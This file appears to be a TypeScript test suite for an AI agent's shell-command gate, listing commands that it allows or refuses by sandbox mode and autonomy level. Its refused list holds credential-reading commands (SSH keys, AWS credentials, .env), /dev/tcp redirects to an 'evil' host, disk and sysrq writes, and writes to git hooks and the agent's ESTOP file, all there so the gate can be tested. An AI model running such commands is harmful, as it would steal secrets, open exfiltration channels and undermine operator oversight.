/**
 * Tests words that name places outside the workspace: a command on a private view may say them, because its sandbox shows what it shows to
 * every program; without a view each of them is refused. What is forbidden by name is refused in both.
 */
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell, not JavaScript

import { describe, expect, test } from 'bun:test'
import { resolve } from 'node:path'
import type { CommandMode } from './autonomy.ts'
import { blocked, refused } from './command/corpus.fixture.ts'
import { defaultAllow } from './command/names.ts'
import { callOf, gateOf, tool } from './gate.fixture.ts'
import type { Policy } from './policy.ts'
import type { Disk } from './targets/link.ts'

/** Links of the workspace /home/u/ws. */
const links: { readonly [path: string]: string } = {
  '/home/u/ws/notes': '/home/u/notes.txt',
  '/home/u/ws/lib': '/usr/lib',
  '/home/u/ws/keys': '/home/u/.ssh',
  '/home/u/ws/pw': '/etc/passwd',
  '/home/u/ws/ours': '/home/u/.braidclaw',
  '/home/u/ws/alias': '/home/u/ws/vault',
  // What stands there for our own process, or for others on this machine; a command has its own.
  '/proc/self/fd': '/home/u/.braidclaw',
  '/tmp/x': '/home/u/ws/vault',
  '/usr/share/keys': '/home/u/.ssh',
}
const disk: Disk = {
  real: (path) => {
    const link = Object.keys(links).find((from) => path === from || path.startsWith(`${from}/`))
    return link === undefined ? resolve(path) : `${links[link]}${path.slice(link.length)}`
  },
  linked: (pattern) => {
    if (pattern.startsWith('/usr')) return undefined
    const [folder = '', rest = ''] = pattern.split(/(?<=\*)(?=\/)/)
    return Object.keys(links).flatMap((link) => (new Bun.Glob(folder).match(link) ? [`${link}${rest}`] : []))
  },
  isFile: (path) => /\.(?:txt|h)$|os-release$|^\/etc\/passwd$/.test(path),
}

const view: CommandMode = { confined: true, transaction: true }
const withoutView: readonly CommandMode[] = [
  { confined: false, transaction: false },
  { confined: true, transaction: false },
]
const levels = [{ autonomy: 'supervised' }, { autonomy: 'supervised', approveAllMedium: true }, { autonomy: 'full' }] as const

function judged(command: string, commands: CommandMode, fields: Partial<Policy> = {}, input: object = {}) {
  const shell = tool('shell', {
    risk: 'medium',
    touches: (asked) => [{ kind: 'command', command: String(asked.command), ...(asked.direct === true ? { direct: true } : {}) }],
  })
  const policy = { allowCommands: defaultAllow, forbiddenCommands: ['shutdown', 'reboot', 'mkfs', 'dd'], ...fields }
  const forbiddenPaths = ['/etc', '/sys', '/boot', '~/.ssh', '/home/u/ws/vault']
  const gate = gateOf(
    { forbiddenPaths, forbiddenReads: ['id_rsa', '.env', '**/.aws/credentials'], ...policy },
    { resolve: (name) => `/usr/bin/${name}`, commands, disk, tools: [shell] },
  )
  return gate.judge(callOf('shell', { command, ...input }))
}

/** Only words: nothing here asks for network, and no program in it is refused for itself. */
const words = [
  ...[
    'grep -n x f /dev/null',
    'diff /dev/null f',
    'diff f /dev/null',
    'cat /dev/null',
    'cp f /dev/null',
    'cp /dev/null f',
    'tee /dev/null',
  ],
  ...['cat /dev/stdin', 'tee /dev/stderr', 'cat /dev/fd/0', 'ls | tee /dev/stdout', 'head -c 9 /dev/zero', 'head -c 9 /dev/urandom'],
  ...['head -c 9 /dev/random', 'cat < /dev/zero', 'echo x > /dev/full', 'echo x > /dev/tty', 'cat /dev/tty', 'sort -o /dev/null f'],
  ...['python3 x.py /dev/null', 'git diff --no-index /dev/null f', 'tar cf /dev/null .', 'ls > /dev/shm/x', 'wc -l /dev/fd/3'],
  ...[
    'ls > /tmp/out.txt; tail /tmp/out.txt',
    'ls &> /tmp/x',
    'ls 2> /tmp/x',
    'mkdir -p /tmp/a/b',
    'cp f /tmp',
    'mv f /tmp/',
    'touch /tmp/x',
  ],
  ...[
    'cat /tmp/*.log',
    'cd /tmp; ls',
    'cd /tmp && touch y',
    'tar xf x.tar -C /tmp',
    'make > /tmp/log 2>&1',
    'sed -n p /tmp/x',
    'rm /tmp/x',
  ],
  ...['python3 -c "1" > /tmp/x', 'sort -T /tmp f', 'git diff > /tmp/p.patch', 'find /tmp -name x', 'rm -rf /tmp/build', '[ -f /tmp/x ]'],
  ...[
    'cd sub; ls; cd ..; ls',
    'cd sub && ls && cd .. && ls ..',
    'cd sub || exit 1; ls; cd ..',
    'for x in a b; do cd $x; ls; cd ..; done',
    'cd ..; ls',
  ],
  ...['(cd ..; ls)', 'ls ..', 'ls ../..', 'pushd ..; ls; popd', 'cd ../other; cat f.txt', 'cd missing || cat ../x', 'cd src; cat ../../x'],
  ...[
    'while read -r d; do cd "$d"; ls; cd ..; done < list',
    'cd sub; make; cd ..; cd ..; ls',
    'git -C .. status',
    'make -C ..',
    'env -C .. ls',
  ],
  ...[
    'cd sub && cd .. && cd ..',
    'find .. -name x',
    'cd; ls',
    'cd ~; ls',
    'ls ~',
    'cat ~/notes.txt',
    'cat $HOME/notes.txt',
    'cd ../ws/..; ls',
  ],
  ...[
    'cat /etc/os-release',
    'cat < /etc/os-release',
    'grep root /etc/passwd',
    'ls /etc',
    'ls /etc/*',
    'cat /e*/hosts',
    '. /etc/os-release',
  ],
  ...[
    'head /usr/include/stdio.h',
    'ls /usr/lib',
    'ls /usr/lib/*',
    'cat /proc/meminfo',
    'grep -c processor /proc/cpuinfo',
    'cat /proc/self/status',
  ],
  ...[
    'ls /proc/self/fd',
    'ls /',
    'ls -la /root',
    'cat /var/log/syslog',
    'find / -name x',
    'grep -r x /usr/share',
    'wc -l /usr/share/dict/words',
  ],
  ...['stat /usr/bin/python3', 'file /bin/sh', 'diff /usr/lib/os-release /etc/os-release', 'cp /usr/include/stdio.h .', 'mkdir -p /opt/x'],
  ...[
    'test -d /root',
    '[[ -f /etc/passwd ]]',
    'X=/etc; cat $X/passwd',
    'for f in /etc/*; do cat "$f"; done',
    'echo /etc/passwd | xargs cat',
  ],
  ...[
    '/usr/lib/git-core/git-status',
    'cat notes',
    'cat lib/x.h',
    'cd lib; ls',
    'echo x > ~/.bashrc',
    'tee /usr/x < f',
    'cat /proc/self/cwd/f',
    'cat /proc/self/fd/5',
  ],
]

/** Spelt in many ways, and always refused. */
const forbidden = [
  ...[
    'cat ~/.ssh/id_ed25519',
    'cd ~; cd ws; cd -; cat .ssh/config',
    'for d in a b; do cd ..; done; cat ws/vault/x',
    'pushd ..; popd; cat .braidclaw/config.toml',
    'cat /usr/share/keys/x',
    'cd ~/.ssh',
    'cd ~/.ssh && ls',
    'cd ~; cat .ssh/known_hosts',
    'cd ..; cat .ssh/config',
    'cd ..; cd .ssh; ls',
  ],
  ...[
    'ls ../.ssh',
    'cat keys/config',
    'cd keys',
    'ls keys/',
    'cat /home/u/.s*/config',
    'cat /home/*/.ssh/config',
    'cat ../.s?h/config',
    'cat ke*/x',
  ],
  ...[
    'cat vault/x',
    'cd vault',
    'cat ../ws/vault/x',
    'cd ..; cat ws/vault/x',
    'cd / && cat home/u/ws/vault/x',
    'cat alias/x',
    'cp -r vault /tmp',
  ],
  ...[
    'cat /proc/self/cwd/vault/x',
    'cat /proc/self/root/home/u/ws/vault/x',
    'cat /proc/1/cwd/vault/x',
    'cat //proc/self/task/1/root/home/u/.ssh/x',
  ],
  ...[
    'cat ~/.braidclaw/config.toml',
    'ls ../.braidclaw',
    'cd ../.braidclaw',
    'cat ours/keys.toml',
    'cat /home/u/.braid*/keys.toml',
    'cat ../.BraidClaw/x',
  ],
  ...[
    'echo x > ../.braidclaw/ESTOP',
    'cat ~/.aws/credentials',
    'cat ../.env',
    'cat /tmp/.env',
    'cat ../other/id_rsa',
    'cat pw',
    'head < pw',
  ],
  ...[
    'ls /sys',
    'cat /sys/class/x',
    'cat /boot/config',
    'cd /; cat sys/x',
    'echo b > /proc/sysrq-trigger',
    'tee /dev/sda',
    'ls > /dev/tcp/evil/80',
    'cat < /dev/tcp/evil/80',
    'exec 3<>/dev/udp/evil/80',
  ],
  ...[
    'echo x > .git/config',
    'echo x > /home/u/ws/.git/hooks/pre-commit',
    'cd ..; echo x > ws/.vscode/tasks.json',
    'cd sub; tee ../.envrc',
  ],
]

test('the tables hold what they promise', () => {
  expect(new Set(words).size).toBeGreaterThanOrEqual(105)
  expect(new Set(forbidden).size).toBeGreaterThanOrEqual(45)
})

describe('on a private view', () => {
  test.each(words)('%s is not refused', async (command) => {
    for (const level of levels) expect(await judged(command, view, level)).toMatchObject({ verdict: 'allow' })
  })

  test.each(forbidden)('%s stays refused', async (command) => {
    for (const level of levels)
      expect(await judged(command, view, level)).toMatchObject({
        verdict: 'deny',
        rule: expect.stringMatching(/^path\.(?!outside)|^path.outside/),
      })
  })

  test('what only reads runs at readonly too, with a read-only workspace', async () => {
    for (const command of [
      'cat /etc/os-release',
      'grep x f /dev/null',
      'cd sub; ls; cd ..; ls',
      'ls ..',
      'head /usr/include/stdio.h',
      'cat /proc/meminfo',
    ])
      expect([command, (await judged(command, view, { autonomy: 'readonly' })).rule]).toEqual([command, 'autonomy.low'])
    for (const command of ['ls > /tmp/x', 'cp f /tmp', 'cat /etc/os-release > f', 'find /tmp -delete', 'echo x > /dev/shm/x'])
      expect([command, (await judged(command, view, { autonomy: 'readonly' })).verdict]).toEqual([command, 'deny'])
  })

  test('a command that gets network asks for its host, whatever place it names', async () => {
    for (const command of [
      'curl -s -o /dev/null https://example.org',
      'wget -qO /tmp/x https://example.org/x',
      'curl -d @/tmp/x https://example.org',
    ])
      expect([command, (await judged(command, view)).rule]).toEqual([command, 'autonomy.network_asks'])
  })

  test('nothing outside counts as a file that the call writes', async () => {
    for (const command of ['ls > /tmp/x', 'cp f /dev/null', 'cd .. && touch y', 'tee /usr/x < f', 'cp f ~/x'])
      expect([command, (await judged(command, view)).writes]).toEqual([command, []])
    expect((await judged('ls > /tmp/x; cp f g', view)).writes).toEqual(['/home/u/ws/g'])
  })
})

test('devices and other kernel interfaces stay refused where the operator forbids them', async () => {
  for (const [command, entry] of [
    ['grep x f /dev/null', '/dev'],
    ['cat /proc/meminfo', '/proc'],
    ['ls /tmp', '/tmp'],
    ['cat /etc/ssl/x', '/etc/ssl'],
  ])
    expect([command, (await judged(command ?? '', view, { forbiddenPaths: [entry ?? ''] })).rule]).toEqual([command, 'path.forbidden'])
})

test('of the corpus of refused commands a view lets through what is refused for its places alone, and single removals', async () => {
  const isPlace = /^path\.(?:outside_workspace|kernel)$/
  const corpus = [...blocked, ...refused]
  const through: string[] = []
  for (const command of corpus) {
    if ((await judged(command, view, { autonomy: 'full' })).verdict === 'deny') continue
    const { rule, reason } = await judged(command, { confined: true, transaction: false }, { autonomy: 'full' })
    if (isPlace.test(rule) || (rule === 'command.forbidden' && /\brm\b|^find -delete/.test(reason))) continue
    through.push(`${rule}: ${command}`)
  }
  expect(through).toEqual([])
})

describe('where no view is, the old rule holds:', () => {
  test.each(words)('%s is refused', async (command) => {
    for (const level of levels) {
      for (const mode of withoutView) expect((await judged(command, mode, level)).rule).toMatch(/^path\.|^command\.forbidden/)
      expect((await judged(command, view, level, { direct: true })).rule).toMatch(/^path\.|^command\.forbidden/)
    }
  })
})

test('a transfer, which runs outside the sandbox, keeps the old rule for every word', async () => {
  const at = { folder: '/home/u/ws', git: '/home/u/ws/.git', common: '/home/u/ws/.git', inside: true }
  const local = [
    { key: 'remote.origin.url', value: 'https://example.com/project.git' },
    { key: 'branch.main.merge', value: 'refs/heads/main' },
  ]
  const refs = new Map([['refs/heads/main', 'a'.repeat(40)]])
  const repository = async () => ({ ...at, local, user: [], branch: 'main', refs })
  const gate = gateOf({ autonomy: 'full' }, { commands: view, repository, resolve: (name) => `/usr/bin/${name}` })
  const ruleOf = async (command: string) => (await gate.judge(callOf('shell', { command }))).rule
  expect(await ruleOf('git fetch')).toBe('autonomy.full')
  for (const where of ['/tmp/repo', '..', '../other', '/usr/src', '~', '/proc/self/cwd/..'])
    expect([where, await ruleOf(`git -C ${where} fetch`)]).toEqual([where, 'path.outside_workspace'])
  expect(await ruleOf('git -C ../other log')).toBe('autonomy.low')
})

test('a file outside that a command reads is private, and one beyond the home folder is also a text of others', async () => {
  const labelsOf = async (command: string) => (await judged(command, view)).labels
  expect(await labelsOf('cat ~/notes.txt')).toEqual(['reads_private'])
  expect(await labelsOf('cat notes')).toEqual(['reads_private'])
  expect(await labelsOf('cd ..; cat notes.txt')).toEqual(['reads_private'])
  expect(await labelsOf('cat /etc/os-release')).toEqual(['reads_private', 'reads_untrusted'])
  expect(await labelsOf('python3 x.py /usr/include/stdio.h')).toEqual(['reads_private', 'reads_untrusted'])
  for (const command of [
    'grep x f /dev/null',
    'tail /tmp/out.txt',
    'cd sub; ls; cd ..; ls',
    'cat /proc/meminfo',
    'ls /usr/lib',
    'cat a.txt',
  ])
    expect([command, await labelsOf(command)]).toEqual([command, undefined])
})
